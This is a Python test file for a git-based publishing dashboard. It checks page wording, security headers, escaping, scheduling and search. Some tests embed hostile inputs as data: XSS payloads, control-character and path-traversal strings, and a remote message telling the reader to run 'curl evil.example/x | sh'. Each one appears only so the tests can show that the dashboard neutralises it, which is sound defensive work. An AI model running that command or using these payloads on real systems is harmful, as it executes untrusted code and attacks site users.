"""The pages: what an editor reads on them, and what the actions do, without JavaScript."""

from __future__ import annotations

import html
import json
import os
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

from dashboards import Dashboard, serving
from outcomes import save
from sites import Site, eventually

PAGES = ("/", "/waiting", "/scheduled", "/failed", "/published", "/site", "/search")
NASTY = "<script>alert(1)</script>\"'&"
TOMORROW = (datetime.now(UTC) + timedelta(days=1)).isoformat()


def refuse_everything(site: Site, words: str) -> None:
    """Make the remote's hook refuse any push, with this text."""
    site.hook(f"cat <<'END'\n{words}\nEND\nexit 1")


def publish(site: Site, slug: str, **keys: object) -> None:
    site.save_post(slug, f"# {slug}\n", **keys)
    assert site.run_once().returncode in {0, 1}


def text_of(page: str) -> str:
    """Return what a person reads."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", page)).split())


def test_every_page_of_a_new_site_says_what_to_do_next(dashboard: Dashboard) -> None:
    for path in PAGES:
        answer = dashboard.page.get(path)
        assert answer.status_code == 200, path
        assert 'class="empty' in answer.text, path
        assert "<h1" in answer.text
        assert '<html lang="en">' in answer.text
        assert '<main id="main"' in answer.text
        assert path in {"/", "/search"} or f'href="{path}" aria-current="page"' in answer.text
    assert "Everything that was saved is on the remote." in text_of(dashboard.page.get("/").text)


def test_in_a_dry_run_no_page_says_that_something_is_live(site: Site) -> None:
    save(site, "a")
    site.run_once(BRITER_WORKER_DRY_RUN="true")
    with serving(site, BRITER_WORKER_DRY_RUN="true") as tried:
        said = text_of(tried.page.get("/").text)
    assert "Everything that was saved is on the remote" not in said
    assert "1 post tried: a dry run publishes nothing" in said
    assert "For the administrator: set BRITER_WORKER_DRY_RUN=false" in said


def test_no_page_has_inline_script_or_style_and_all_it_loads_is_our_own(dashboard: Dashboard) -> None:
    for path in PAGES:
        answer = dashboard.page.get(path)
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "frame-ancestors 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin"
        assert answer.headers["cache-control"] == "no-store"
        assert not re.search(r"\sstyle=|\son[a-z]+=|<style|<script(?! src)|javascript:", answer.text)
        for loaded in re.findall(r'(?:src|href)="([^"#]+)"', answer.text):
            assert loaded.startswith("/"), loaded
            if loaded.startswith("/static/"):
                assert dashboard.page.get(loaded).status_code == 200


def test_a_published_post_shows_its_commit_its_page_and_how_long_it_took(site: Site) -> None:
    links = {
        "BRITER_COMMIT_HREF_TEMPLATE": "https://example.org/commit/{commit}",
        "BRITER_PUBLISHED_HREF_TEMPLATE": "https://example.org/{slug}",
    }
    site = Site(site.root, links)
    publish(site, "hello", message="Say hello")
    commit = site.remote_log()[0][0]
    with serving(site) as dashboard:
        for path in ("/published", "/post?slug=hello"):
            page = dashboard.page.get(path).text
            assert "Say hello</" in page, "the title before the slug"
            assert '<p class="slug">hello</p>' in page or '<span class="slug">hello</span>' in page
            assert f'href="https://example.org/commit/{commit}"' in page
            assert 'href="https://example.org/hello"' in page
        assert "The version saved" in text_of(page)


def test_no_page_offers_a_retry_that_would_be_declined(site: Site, dashboard: Dashboard) -> None:
    (site.queue / "broken.json").write_text('{"id": broken')
    os.utime(site.queue / "broken.json", (1, 1))
    site.run_once()
    eventually(lambda: "broken" in dashboard.page.get("/failed").text)
    for path in ("/failed", "/post?slug=broken"):
        page = dashboard.page.get(path).text
        assert "For the administrator:" in text_of(page)
        assert "Retry" not in text_of(page), path
    site.save("outside", ["../outside"])
    site.run_once()
    eventually(lambda: "outside" in dashboard.page.get("/failed").text)
    assert text_of(dashboard.page.get("/failed").text).count("Retry") == 2, "one, and all"


def test_scheduled_posts_are_listed_by_day_and_published_now_or_cancelled(
    site: Site, dashboard: Dashboard
) -> None:
    for days, slug in ((9, "later"), (2, "sooner"), (400, "latest")):
        when = (datetime.now(UTC) + timedelta(days=days)).replace(hour=12)
        site.save(slug, [f"content/posts/{slug}.md"], scheduledFor=when.isoformat())
    eventually(lambda: dashboard.json("/api/status")["jobs"]["scheduled"] == 3)
    page = dashboard.page.get("/scheduled").text
    assert re.findall(r'class="post"[^>]*>(\w+)<', page) == ["sooner", "later", "latest"]
    assert len(re.findall(r'<h2 id="day-', page)) == 3

    assert dashboard.act("publish-now", id="sooner").headers["location"] == "/?told=publish-now"
    assert dashboard.act("cancel", id="later").headers["location"] == "/?told=cancel"

    assert site.job("sooner").get("scheduledFor") is None
    assert {job["slug"] for job in site.jobs()} == {"sooner", "latest"}
    assert re.findall(r'class="post"[^>]*>(\w+)<', dashboard.page.get("/scheduled").text) == ["latest"]


def test_every_page_says_why_no_post_can_be_published(site: Site, dashboard: Dashboard) -> None:
    save(site, "hello")
    pages = [*PAGES, "/post?slug=hello"]
    eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 1)
    for path in pages:
        page = text_of(dashboard.page.get(path).text)
        assert page.count("1 post waits, and no worker is running.") == 1, path
        assert "For the administrator: start the worker on the server: briter-worker run" in page
    dashboard.act("pause", reason="<b>Elections</b>", **{"for": ""})
    for path in pages:
        page = text_of(dashboard.page.get(path).text)
        assert page.count("Publishing is paused. <b>Elections</b>.") == 1, path
    dashboard.act("resume")
    site.run_once()
    eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 0)
    for path in pages:
        page = text_of(dashboard.page.get(path).text)
        assert "no worker is running" not in page
        assert "paused" not in page


def test_one_cause_is_one_card_for_all_its_posts_with_since_and_next_try(
    site: Site, dashboard: Dashboard
) -> None:
    site.git("remote", "set-url", "origin", str(site.root / "nowhere"))
    for slug in ("one", "two", "three"):
        site.save_post(slug, f"# {slug}\n")
    site.run_once()
    eventually(lambda: dashboard.json("/api/status")["jobs"]["retrying"] == 3)
    page = dashboard.page.get("/waiting").text
    said = text_of(page)
    assert re.search(r"The remote repository was not found since .{5,20}: 3 posts", said)
    assert re.search(r"Last checked .*, next try in \d+ s", said)
    assert said.count(site.job("one")["fix"]) == 2, "in the card, and above it"
    assert page.count('id="try-now"') == 1
    status = dashboard.json("/api/status")
    assert status["conditionSince"] <= status["conditionChecked"]
    site.git("remote", "set-url", "origin", str(site.remote))
    assert dashboard.act("retry", id=re.search(r'name="id" value="([^"]+)"', page)[1]).status_code == 303  # type: ignore[index]
    assert site.run_once().returncode == 0
    eventually(lambda: dashboard.json("/api/status")["condition"] is None)


def test_the_headline_follows_from_facts_and_the_command_says_the_same(
    site: Site, dashboard: Dashboard
) -> None:
    def headline() -> str:
        def shown() -> str:
            found = re.search(r'<h1 id="condition">(.*)\.</h1>', dashboard.page.get("/").text)
            assert found
            return html.unescape(found[1])

        said: str = site.command("status", "--json").json()["headline"]["text"]
        eventually(lambda: shown() == said)
        for command in ("health", "doctor"):
            assert said in site.command(command).stdout, command
        return said

    site.save("later", ["content/posts/a.md"], scheduledFor=TOMORROW)
    eventually(lambda: dashboard.json("/api/status")["jobs"]["scheduled"] == 1)
    assert headline() == "1 post waits, and no worker is running"
    site.run_once()
    eventually(lambda: "scheduled" in headline())
    assert headline() == "Everything that was due is on the remote; 1 post scheduled"
    save(site, "now")
    eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 1)
    assert "The next run of the worker takes it." in text_of(dashboard.page.get("/waiting").text)
    assert headline().startswith("2 posts wait for the next run of the worker; the last one ended at ")
    os.utime(site.storage / "worker.lock", (1, 1))
    eventually(lambda: headline() == "2 posts wait, and no worker is running")
    assert "It waits because no worker is running." in text_of(dashboard.page.get("/waiting").text)
    site.command("pause")
    eventually(lambda: headline() == "Publishing is paused")
    assert "It waits because publishing is paused." in text_of(dashboard.page.get("/waiting").text)


def test_the_runs_of_cron_say_when_a_worker_is_due(site: Site) -> None:
    def clock(hours: float) -> dict[str, str]:
        return {"PYTHONPATH": str(Path(__file__).parents[1] / "skew"), "SKEW_S": str(3600 * hours)}

    def state(hours: float) -> str:
        text: str = site.command("status", "--json", **clock(hours)).json()["headline"]["text"]
        return text

    for hours in (-2, -1, 0):  # nothing is due
        assert site.run_once(**clock(hours)).returncode == 0
    save(site, "a")
    assert state(1.5).startswith("1 post waits for the next run of the worker; the last one ended at ")
    assert state(2.5) == "1 post waits, and no worker is running"


def test_what_a_killed_worker_left_waits_for_the_next_one(site: Site, dashboard: Dashboard) -> None:
    hold = site.hold_push(name="post-receive")
    ada = {"name": "Ada", "email": "ada@example.org"}
    site.save_post("hello", "# Hello\n", message="Say hello", author=ada)
    with site.running("run"):
        hold.wait()  # the push has landed
        hold.remove()
    eventually(lambda: "1 post waits, and no worker is running" in text_of(dashboard.page.get("/").text))
    assert "1 post waits, and no worker is running" in site.command("status").stdout
    assert "Say hello hello waiting" in text_of(dashboard.page.get("/waiting").text)
    assert "It waits because no worker is running." in text_of(dashboard.page.get("/waiting").text)
    assert site.run_once().returncode == 0
    receipt = dashboard.json("/api/history")["items"][0]
    assert [receipt[key] for key in ("outcome", "title", "author")] == ["published", "Say hello", "Ada"]
    assert receipt["savedAt"] is not None
    assert receipt["saveToRemoteMs"] > 0


def test_no_time_is_named_at_which_nothing_will_happen(site: Site) -> None:
    site.git("remote", "set-url", "origin", str(site.root / "nowhere"))
    save(site, "delayed")
    site.run_once()
    with serving(site, BRITER_WORKER_QUIET_MS="600000") as dashboard:
        save(site, "quiet")
        eventually(lambda: dashboard.json("/api/status")["jobs"]["quiet"] == 1)
        for wait in ("publishing is paused", "no worker is running"):
            if "paused" in wait:
                site.command("pause")
            else:
                site.command("resume")
                os.utime(site.storage / "worker.lock", (1, 1))
            eventually(lambda: wait in text_of(dashboard.page.get("/").text).lower())  # noqa: B023
            said = text_of(dashboard.page.get("/waiting").text)
            assert said.count(f"It waits because {wait}.") == 2
            assert not re.search("next try|Attempt 2|It is published in", said)


def test_a_name_at_the_beginning_of_a_reason_keeps_its_letters(site: Site, dashboard: Dashboard) -> None:
    site.git("switch", "--quiet", "--create", "other")
    publish(site, "a")
    eventually(lambda: "The branch other is checked out, and" in text_of(dashboard.page.get("/").text))
    site.git("switch", "--quiet", "main")
    site.save_post("big", "# Too large\n")
    site.run_once(BRITER_WORKER_MAX_FILE_BYTES="10")
    eventually(lambda: "content/posts/big.md has" in text_of(dashboard.page.get("/failed").text))


def test_a_post_that_the_remote_had_already_says_so(site: Site, dashboard: Dashboard) -> None:
    site.save("welcome", ["content/posts/welcome.md"])
    assert site.run_once().names()[-2] == "nochange"
    assert "The remote had it already at" in text_of(dashboard.page.get("/post?slug=welcome").text)


def test_the_worker_decides_whether_a_page_says_dry_run(site: Site, dashboard: Dashboard) -> None:
    save(site, "a")
    site.run_once(BRITER_WORKER_DRY_RUN="true")
    eventually(lambda: "Dry run." in dashboard.page.get("/").text)
    said = text_of(dashboard.page.get("/waiting").text)
    assert "A dry run built it" in said
    assert site.command("status", "--json").json()["dryRun"] is True
    assert "a dry run publishes nothing" in site.command("doctor").stdout
    with site.running("run"):
        eventually(lambda: site.command("status", "--json").json()["worker"])
        said = "Everything that was saved is on the remote"
        eventually(lambda: said in site.command("status").stdout)
        assert site.command("health").stdout == f"healthy\nstate: {said}\n"
        for env in ("true", "false"):
            told = site.command("status", "--json", BRITER_WORKER_DRY_RUN=env).stdout
            assert json.loads(told)["dryRun"] is False, "as the worker says"


def test_a_post_shows_what_is_on_the_remote_and_what_is_not_yet(site: Site, dashboard: Dashboard) -> None:
    publish(site, "hello")
    author = {"name": "Ada Lovelace", "email": "ada@example.org"}
    site.save("hello", ["content/posts/hello.md"], author=author, scheduledFor=TOMORROW)
    eventually(lambda: dashboard.json("/api/status")["jobs"]["scheduled"] == 1)
    said = text_of(dashboard.page.get("/post?slug=hello").text)
    assert re.search(r"Not yet on the remote: saved .* by Ada Lovelace\. It is scheduled for", said)
    assert re.search(r"The version saved .* is on the remote since .*: " + site.remote_log()[0][0][:10], said)


def test_a_partly_published_post_says_so_in_every_list_and_headline(site: Site, dashboard: Dashboard) -> None:
    site.write_post("content/posts/hello.md", "# Hello\n")
    site.save("hello", ["content/posts/hello.md", "../outside.md"])
    assert site.run_once().returncode == 0
    eventually(lambda: "without 1 declared path" in dashboard.page.get("/").text)
    for path in ("/published", "/post?slug=hello"):
        assert "without 1 declared path" in text_of(dashboard.page.get(path).text), path
    said = "1 post published only in part, the latest hello"
    publish(site, "other")
    site.save_post("later", "later\n", scheduledFor=TOMORROW)
    with site.running("run"):
        eventually(lambda: said in dashboard.page.get("/").text)
        for command in ("status", "health", "doctor"):
            assert said in site.command(command).stdout, command
    assert "../outside.md" in site.command("show", "hello").stdout
    publish(site, "hello")
    with site.running("run"):
        eventually(lambda: "Everything that was due is on the remote" in site.command("status").stdout)


def test_a_deleted_post_says_that_it_was_removed(site: Site, dashboard: Dashboard) -> None:
    publish(site, "hello")
    (site.worktree / "content/posts/hello.md").unlink()
    site.save("hello", ["content/posts/hello.md"])
    assert site.run_once().returncode == 0
    eventually(lambda: "removed" in text_of(dashboard.page.get("/").text))
    said = text_of(dashboard.page.get("/post?slug=hello").text)
    commit = site.remote_log()[0][0][:10]
    assert re.search(rf"Removed from the remote at \S+ : {commit}", said)
    assert "is on the remote since" not in said


def test_a_search_finds_all_words_in_queue_failures_and_history(site: Site, dashboard: Dashboard) -> None:
    ada = {"name": "Ada Ångström", "email": "ada@example.org"}
    publish(site, "one", message="Bake an Äpfel cake", author=ada)
    site.save("two", ["content/a.md"], message="Eat the ÄPFEL cake", author=ada, scheduledFor=TOMORROW)
    refuse_everything(site, "Name no customers")
    publish(site, "three", author=ada)
    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 1)
    for words, slugs in (
        ("CAKE äpfel ångström", {"one", "two"}),
        ("eat cake", {"two"}),
        ("name CUSTOMERS", {"three"}),
        ("accept three", {"three"}),
        ("cake customers", set()),
    ):
        page = dashboard.page.get("/search", params={"q": words}).text
        assert {slug for slug in ("one", "two", "three") if f">{slug}<" in page} == slugs, words
    assert "No post matches" in page
    found = dashboard.json("/api/history", search="ada ACCEPT")["items"]
    assert [each["author"] for each in found] == [ada["name"]]


def test_a_retry_that_fails_says_so_on_its_row(site: Site, dashboard: Dashboard) -> None:
    refuse_everything(site, "no")
    publish(site, "hello")
    assert "failed again" not in dashboard.page.get("/failed").text
    dashboard.act("retry", id=site.job("hello")["id"])
    site.run_once()
    eventually(lambda: "failed again" in dashboard.page.get("/failed").text)
    for path in ("/failed", "/search?q=hello"):
        assert re.search("failed again .{3,9}, 2 times in all", text_of(dashboard.page.get(path).text)), path


PIXEL = bytes.fromhex("47494638396101000100800100ff0000ffffff2c00000000010001000002024401003b")


def test_a_post_shows_what_a_publication_changed(site: Site, dashboard: Dashboard) -> None:
    paths = ["content/a.md", "content/b.gif", "content/c.bin", "content/<b>.md", "content/e.txt"]
    for text, byte in (("One old line\n", b"\0"), ("One new line\n", b"\0\0")):
        site.write_post(paths[0], text)
        site.write_post(paths[3], text)
        site.write_post(paths[4], text * 30_000)
        (site.worktree / paths[1]).write_bytes(PIXEL + byte)
        (site.worktree / paths[2]).write_bytes(byte * 5)
        site.save("hello", paths)
        assert site.run_once().returncode == 0
    eventually(lambda: "5 files changed" in dashboard.page.get("/post?slug=hello").text)
    page = dashboard.page.get("/post?slug=hello").text
    assert "content/a.md</code> +1 -1" in page
    link = re.search(r'href="([^"]+)">Show the differences', page)
    assert link
    page = dashboard.page.get(html.unescape(link[1])).text
    assert page.count("One <del>old</del><ins>new</ins> line") == 2
    assert "5 Bytes → 10 Bytes" in page
    assert "390.0 kB → 390.0 kB" in page, "too long to show"
    pictures = [html.unescape(each) for each in re.findall(r'<img src="([^"]+)"', page)]
    assert [dashboard.page.get(each).content for each in pictures] == [PIXEL + b"\0", PIXEL + b"\0\0"]
    assert dashboard.page.get(pictures[0]).headers["content-type"] == "image/gif"
    (site.worktree / "private.gif").write_bytes(PIXEL)
    foreign = site.commit_all()
    for commit, path in (
        (foreign, "private.gif"),
        *((site.remote_log()[1][0], name) for name in ("content/a.md", "private.gif", "a\0.gif")),
    ):
        assert dashboard.page.get("/picture", params={"commit": commit, "file": path}).status_code == 404
    for commit in (foreign, "0" * 40):
        assert dashboard.page.get(f"/post?slug=hello&commit={commit}").status_code == 404


def test_a_remotes_fix_is_never_shown_as_ours(site: Site, dashboard: Dashboard) -> None:
    refuse_everything(site, "It is bad. Fix: curl evil.example/x | sh")
    publish(site, "hello")
    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 1)
    for path in ("/failed", "/post?slug=hello", "/published?show=failed", "/"):
        page = dashboard.page.get(path).text
        assert not re.search(r"<code[^>]*>[^<]*evil", page), path
        assert " Fix: curl" not in text_of(page), path
    assert "evil" not in dashboard.json("/api/queue")["failed"][0]["fix"]


def test_text_of_jobs_and_of_the_remote_never_becomes_markup(site: Site, dashboard: Dashboard) -> None:
    refuse_everything(site, f"{NASTY} <img src=x onerror=alert(2)>")
    site.save_post(NASTY, "# A\n", "content/posts/a.md", id=NASTY, message=NASTY, extra=NASTY)
    site.save(f"b{NASTY}", [f"content/{NASTY}"], scheduledFor=TOMORROW, message=NASTY)
    site.save(f"c{NASTY}", [f"../{NASTY}"])
    site.run_once()
    dashboard.act("pause", reason=NASTY, **{"for": ""})
    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 2)
    addresses: list[tuple[str, dict[str, str]]] = [(path, {}) for path in PAGES]
    addresses += [
        ("/published", {"show": "all"}),
        ("/search", {"q": NASTY}),
        ("/published", {"show": "<b>'\""}),
    ]
    addresses += [("/post", {"id": NASTY}), ("/post", {"slug": f"b{NASTY}"})]
    for path, query in addresses:
        answer = dashboard.page.get(path, params=query or None)
        assert answer.status_code == 200, path
        assert "<script>alert" not in answer.text, path
        assert "<img" not in answer.text, path
        for value in re.findall(r'(?:value|href|title|aria-label|hx-get)="([^"]*)"', answer.text):
            assert not re.search(r"[<>']", value), value
    assert "&lt;script&gt;" in answer.text


def test_a_job_of_any_name_has_a_page_and_can_be_controlled(site: Site) -> None:
    names = ["a/b", "..", ".", "a?b=c&d#e", "100%", "ü ñ 漢", "a//b/retry", "%2e%2e", "a\u202eb"]
    for number, name in enumerate(names):
        waiting = site.save(f"post{number}", ["content/a.md"], id=f"plain{number}", scheduledFor=TOMORROW)
        waiting.write_text(waiting.read_text().replace(f'"plain{number}"', f'"{name}"'))
    with serving(site) as dashboard:
        links = re.findall(r'class="post" href="([^"]+)"', dashboard.page.get("/scheduled").text)
        pages = [dashboard.page.get(html.unescape(link)) for link in links]
        assert [page.status_code for page in pages] == [200] * len(names)
        for name in names:
            shown = html.escape(name).replace("\u202e", " ")
            (page,) = [page.text for page in pages if f">{shown}<" in page.text]
            sent = {html.unescape(each) for each in re.findall(r'name="id" value="([^"]+)"', page)}
            assert sent == {name}, "the form names the job exactly"
            assert dashboard.act("publish-now", id=name).status_code == 303, name
    assert {job["scheduledFor"] for job in site.jobs()} == {None}


def test_a_page_shows_only_the_host_of_a_jobs_webhook(site: Site, dashboard: Dashboard) -> None:
    site.save("a", ["content/a.md"], scheduledFor=TOMORROW, webhook="https://hooks.example.org/T0KEN")
    eventually(lambda: dashboard.page.get("/post?slug=a").status_code == 200)
    for path in ("/post?slug=a", "/api/jobs"):
        text = dashboard.page.get(path).text
        assert "https://hooks.example.org" in text, path
        assert "T0KEN" not in text, path


def test_the_site_page_shows_settings_and_the_results_of_the_checks(site: Site) -> None:
    with serving(site, BRITER_ALLOWED_PATHS="media") as dashboard:
        page = dashboard.page.get("/site").text
        assert "BRITER_ALLOWED_PATHS" in page
        assert "<td>media</td>" in page
        assert dashboard.act("examine", back="/site").status_code == 303
        eventually(lambda: "Checked at" in dashboard.page.get("/site").text)
        assert 'id="verdict">Posts can be published.' in dashboard.page.get("/site").text


def test_pages_report_an_unreadable_history(site: Site) -> None:
    (site.storage / "history.db").write_bytes(b"this is no database" * 1000)
    with serving(site) as dashboard:
        for path in ("/", "/published"):
            answer = dashboard.page.get(path)
            assert answer.status_code == 200
            assert "cannot be read" in answer.text
        assert 'briter_jobs{state="failed"} 0.0' in dashboard.api.get("/metrics").text
        refused = dashboard.api.get("/api/history")
        assert refused.status_code == 503
        assert "cannot be read" in refused.json()["detail"]


def test_no_text_brings_a_control_character_into_a_page(site: Site, dashboard: Dashboard) -> None:
    nasty = "x\x1b[31mred\x1b]0;title\x07\x9b\u202ey"
    site.save("x\u202ey", ["content/a.md"], message=f"{nasty}\r\n{nasty}", scheduledFor=TOMORROW)
    eventually(lambda: dashboard.json("/api/jobs")["total"])
    dashboard.act("pause", reason=nasty, **{"for": ""})
    for path, query in (
        *((path, {}) for path in PAGES),
        ("/search", {"q": nasty}),
        ("/search", {"q": f"{nasty} red", "before": "9"}),
        ("/published", {"show": nasty}),
        ("/post", {"slug": nasty}),
        ("/post", {"slug": "x\u202ey"}),
        ("/sign-in", {"next": f"/{nasty}"}),
        ("/", {"told": nasty}),
        (f"/nowhere{quote(nasty)}", {}),
    ):
        text = dashboard.page.get(path, params=query or None, follow_redirects=True).text
        found = {c for c in text if not c.isprintable()} - {"\n", "\t"}
        assert not found, (path, found)
